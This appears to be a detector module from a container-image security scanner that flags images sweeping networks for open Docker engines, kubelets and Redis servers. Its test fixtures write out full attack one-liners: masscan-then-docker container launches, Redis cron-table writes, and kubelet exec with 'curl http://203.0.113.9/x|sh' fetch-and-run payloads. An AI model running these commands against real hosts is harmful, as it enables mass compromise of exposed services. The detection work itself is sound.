import type { ScanEffect } from '../trace/effect.ts';
import { openDoors } from '../trace/effects/scanners.ts';
import { literals, render } from '../trace/value.ts';
import { isDeclaredScanner } from './declared.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { payloadOf } from './payload.ts';
import { chainOf, findingOf, type Sighting, sightingOf } from './sighting.ts';
import { clip, valueWords } from './wording.ts';

/** Sweeping the network for open doors. */
export const networkSweep: Detector = {
  id: 'network-sweep',
  version: 2,
  title: 'Sweeps networks for open doors.',
  attack: ['T1046', 'T1595.001', 'T1613'],
  description: `
masscan, zmap, zgrab and pnscan walk through millions of addresses; a loop with \`nc -z\` or \`curl\` does the same, and Shodan has
done it already. An image that does it at start looks for victims or is a scanner: *malicious* when it sweeps for container engines,
kubelets or databases that are open by mistake and acts on what it finds (starts containers, writes a cron table through Redis, runs
a payload), *suspicious* otherwise, a *note* when it calls itself a scanner. A scanner that is merely installed is nothing here.
`,
  fires: [
    {
      name: 'open engines, then containers on them',
      image: {
        cmd: [
          'sh',
          '-c',
          'masscan 0.0.0.0/0 -p2375 -oG /tmp/o; while read ip; do docker -H tcp://$ip:2375 run -d alpine sh; done < /tmp/o',
        ],
      },
    },
    {
      name: 'a cron table through open Redis servers',
      image: {
        cmd: [
          'sh',
          '-c',
          'pnscan -r "*" 203.0.113.0/24 6379 > /l; while read ip; do redis-cli -h $ip config set dir /var/spool/cron; redis-cli -h $ip config set dbfilename root; done < /l',
        ],
      },
    },
    {
      name: 'kubelets, one after the other',
      image: {
        cmd: [
          'sh',
          '-c',
          'for i in $(seq 1 254); do nc -zw1 10.0.0.$i 10250 && curl -sk https://10.0.0.$i:10250/run/kube-system/p/c -d cmd="curl http://203.0.113.9/x|sh"; done; curl -s http://203.0.113.9/m | sh',
        ],
      },
    },
    { name: 'at start', severity: 'suspicious', image: { cmd: ['masscan', '-p80', '198.51.100.0/24'] } },
    {
      name: 'a loop',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'for i in $(seq 1 254); do nc -z -w1 198.51.100.$i 2375 && echo $i; done'] },
    },
    {
      name: 'victims from Shodan',
      severity: 'suspicious',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -s "https://api.shodan.io/shodan/host/search?key=k&query=port:2375+product:Docker" > /l',
        ],
      },
    },
    {
      name: 'a declared scanner',
      severity: 'note',
      image: { name: 'docker.io/someones/masscan:1', cmd: ['masscan', '-p80', '198.51.100.0/24'] },
    },
  ],
  silent: [
    { name: 'one host', image: { cmd: ['nmap', '-sV', 'target.example'] } },
    { name: 'asking for the version', image: { cmd: ['masscan', '--version'] } },
    {
      name: 'waiting for a database',
      image: {
        cmd: [
          'sh',
          '-c',
          'until nc -z "$REDIS_HOST" 6379; do sleep 1; done; curl -s "http://$ELASTIC_HOST:9200/_cluster/health"; exec app',
        ],
      },
    },
    {
      name: 'its own engine',
      image: { cmd: ['sh', '-c', 'curl -s http://docker:2375/_ping; redis-cli -h $REDIS_HOST ping; exec app'] },
    },
  ],
  detect(scene) {
    return [...bySweep(scene), ...bySearch(scene)];
  },
};

function bySweep(scene: Scene): readonly FindingDraft[] {
  const declared = isDeclaredScanner(scene);
  const spreads = new Set(
    effectsOf(scene, 'container-run')
      .filter(({ engine }) => engine !== undefined)
      .map(({ stage }) => scene.story.stages[stage]?.start),
  );
  return effectsOf(scene, 'scan').flatMap((effect) => {
    const sighting = sightingOf(scene, effect);
    const ports = literals(effect.ports ?? []);
    const acts = actsOn(scene, effect, sighting, spreads.has(sighting.stage.start));
    const targets = render(effect.targets).length > 0 ? ` of ${valueWords(effect.targets, 60)}` : '';
    return findingOf(scene, sighting, {
      threat: acts ? 'hostile' : declared ? 'minor' : 'dual-use',
      title: `Sweeps the network${targets} for open doors (${effect.tool}${ports ? `, ports ${ports.slice(0, 60)}` : ''})`,
      because:
        acts ??
        (declared
          ? 'The image says that it is a scanner.'
          : 'Nothing in its name or labels says that it is a scanner.'),
      effects: [effect.id],
      encodingDeceives: !declared,
    });
  });
}

/** What it does with the doors it finds. */
function actsOn(scene: Scene, effect: ScanEffect, sighting: Sighting, spreads: boolean): string | undefined {
  const doors = literals(effect.ports ?? [])
    .split(/\D+/)
    .some((port) => openDoors.has(port));
  if (!doors && effect.tool !== 'redis-cli') return undefined;
  if (spreads) return 'It looks for open container engines and starts containers on what it finds.';
  if (effect.tool === 'redis-cli') {
    const words = [...(sighting.command?.argv ?? []), sighting.command?.stdin ?? []].map(render).join(' ');
    if (/\/(var\/spool\/cron|etc\/cron|root\/\.ssh|home\/[^/\s]{1,40}\/\.ssh)/.test(words))
      return 'It writes cron tables or SSH keys through open Redis servers.';
  }
  const payload = payloadOf(scene, chainOf(scene.story, sighting.stage)[0]?.id);
  return payload?.worst === 'hostile' ? `The same code runs ${payload.what}.` : undefined;
}

/** Questions to the search engines for open doors. */
function bySearch(scene: Scene): readonly FindingDraft[] {
  const declared = isDeclaredScanner(scene);
  return effectsOf(scene, 'fetch').flatMap((effect) => {
    const url = render(effect.url).toLowerCase();
    const engine = engines.find((each) => url.includes(each));
    if (!engine || !/search|query|host/.test(url)) return [];
    return findingOf(scene, sightingOf(scene, effect), {
      threat: declared ? 'minor' : 'dual-use',
      title: `Asks ${engine} for machines with open doors (${clip(url.replace(/key=[^&]{1,80}/, 'key=***'), 100)})`,
      effects: [effect.id],
      encodingDeceives: !declared,
    });
  });
}

const engines = [
  'api.shodan.io',
  'search.censys.io',
  'api.zoomeye.org',
  'api.zoomeye.hk',
  'fofa.info',
  'fofa.so',
  'api.binaryedge.io',
  'quake.360.net',
];
